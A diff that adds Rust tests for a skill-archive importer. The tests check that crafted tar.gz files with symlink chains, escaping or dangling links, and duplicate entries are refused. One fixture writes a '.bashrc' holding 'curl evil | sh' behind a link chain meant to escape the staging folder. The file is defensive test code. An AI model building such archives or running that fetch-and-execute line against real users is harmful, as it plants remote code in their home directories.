@@ -251,3 +251,110 @@ fn an_archive_that_unpacks_too_large_is_refused_by_what_it_writes() {
     assert!(e.contains("over 64 MiB"), "{e}");
     assert_nothing_installed(&d);
 }
+
+/// An entry of [`tar_gz_mixed`]: a file's bytes, or a link's target.
+type Item<'a> = (&'a str, Result<&'a [u8], &'a str>);
+
+/// A tar of files and links in the given order (links as `(path, target)`, files as
+/// `(path, content)`), names written raw.
+fn tar_gz_mixed(items: &[Item<'_>]) -> Vec<u8> {
+    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut builder = tar::Builder::new(gz);
+    for (path, item) in items {
+        let mut header = tar::Header::new_gnu();
+        match item {
+            Ok(content) => {
+                header.set_size(content.len() as u64);
+                header.set_mode(0o644);
+                raw_path(&mut header, path);
+                builder.append(&header, *content).unwrap();
+            }
+            Err(target) => {
+                header.set_entry_type(tar::EntryType::Symlink);
+                header.set_size(0);
+                raw_path(&mut header, path);
+                header.set_link_name(target).unwrap();
+                header.set_cksum();
+                builder.append(&header, std::io::empty()).unwrap();
+            }
+        }
+    }
+    builder.into_inner().unwrap().finish().unwrap()
+}
+
+/// Each link stays inside the archive on its own, but together they lead out: the file
+/// after them would land in the user's home if it were written through them.
+#[test]
+fn a_chain_of_links_cannot_carry_a_write_out_of_the_staging_folder() {
+    let d = dirs();
+    let archive = write(
+        &d,
+        "chain.tar.gz",
+        &tar_gz_mixed(&[
+            ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
+            ("a", Err(".")),
+            ("a/b", Err("..")),
+            ("b/c", Err("..")),
+            ("b/c/d", Err("..")),
+            ("b/c/d/e/.bashrc", Ok(b"curl evil | sh\n")),
+        ]),
+    );
+    let e = import(&archive, &d.skills, false).unwrap_err();
+    assert!(e.starts_with("refusing "), "{e}");
+    let home = d.skills.parent().unwrap();
+    assert!(!home.join(".bashrc").exists() && !home.join("e").exists());
+    assert!(!home.parent().unwrap().join("e/.bashrc").exists());
+    assert_nothing_installed(&d);
+}
+
+#[test]
+fn links_that_leave_their_skill_through_a_wrapper_or_into_another_skill_are_refused() {
+    let d = dirs();
+    let other = "---\nname: csv-tools\ndescription: Clean CSV files.\n---\nbody\n";
+    let cases: [(&str, Vec<Item<'_>>); 3] = [
+        (
+            "wrapper.tar.gz",
+            vec![
+                ("w/pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
+                ("w/pdf-forms/cfg", Err("../../config.json")),
+            ],
+        ),
+        (
+            "across.tar.gz",
+            vec![
+                ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
+                ("csv-tools/SKILL.md", Ok(other.as_bytes())),
+                ("pdf-forms/x", Err("../csv-tools/SKILL.md")),
+            ],
+        ),
+        (
+            "dangling.tar.gz",
+            vec![
+                ("pdf-forms/SKILL.md", Ok(SKILL.as_bytes())),
+                ("pdf-forms/gone", Err("nothing-here")),
+            ],
+        ),
+    ];
+    for (name, items) in cases {
+        let archive = write(&d, name, &tar_gz_mixed(&items));
+        let e = import(&archive, &d.skills, false).unwrap_err();
+        assert!(
+            e.contains("points outside the skill or to nothing"),
+            "{name}: {e}"
+        );
+        assert_nothing_installed(&d);
+    }
+    let twice = write(
+        &d,
+        "twice.tar.gz",
+        &tar_gz(&[
+            ("pdf-forms/SKILL.md", SKILL.as_bytes()),
+            ("pdf-forms/SKILL.md", b"---\nname: x\n---\n"),
+        ]),
+    );
+    assert!(
+        import(&twice, &d.skills, false)
+            .unwrap_err()
+            .contains("appears twice")
+    );
+}
